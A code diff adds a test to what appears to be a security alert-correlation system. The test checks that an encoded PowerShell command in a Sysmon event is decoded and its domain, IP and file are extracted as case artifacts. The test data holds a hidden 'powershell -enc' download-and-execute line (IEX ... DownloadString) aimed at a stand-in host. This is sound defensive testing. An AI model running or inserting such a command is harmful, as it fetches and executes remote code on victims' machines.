@@ -364,6 +364,45 @@ test('queues alerts in the transaction that raises them', async () => {
   expect(queued).toEqual(alerts);
 });
 
+test('shows what only decoded text holds, with its field', async () => {
+  const client = await t.organisation();
+  const hidden = "IEX (New-Object Net.WebClient).DownloadString('http://files.example.net/a.ps1'); ping 203.0.113.9";
+  const CommandLine = `powershell.exe -nop -w hidden -enc ${Buffer.from(hidden, 'utf16le').toString('base64')}`;
+  await t.send(
+    await t.ingestKey(client),
+    [
+      {
+        '@timestamp': new Date().toISOString(),
+        host: { name: 'ws' },
+        winlog: {
+          event_id: '1',
+          provider_name: 'Microsoft-Windows-Sysmon',
+          channel: 'Microsoft-Windows-Sysmon/Operational',
+          computer_name: 'ws',
+          event_data: { Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', CommandLine },
+        },
+      },
+    ],
+    'winlogbeat-8',
+  );
+  await correlation.run(client);
+  const artifacts = await scoped(t.db, 'system', (tx) =>
+    tx
+      .selectFrom('case_artifacts')
+      .select(['kind', 'value', 'decoded_from'])
+      .where('organisation_id', '=', client)
+      .where('kind', 'in', ['destinationIp', 'domain', 'file', 'device'])
+      .orderBy('kind')
+      .execute(),
+  );
+  expect(artifacts).toEqual([
+    { kind: 'destinationIp', value: '203.0.113.9', decoded_from: 'process.command_line' },
+    { kind: 'device', value: 'ws', decoded_from: null },
+    { kind: 'domain', value: 'files.example.net', decoded_from: 'process.command_line' },
+    { kind: 'file', value: 'a.ps1', decoded_from: 'process.command_line' },
+  ]);
+});
+
 test('runs once more for alerts raised during a run', async () => {
   const handlers: (() => void)[] = [];
   let release = () => {};
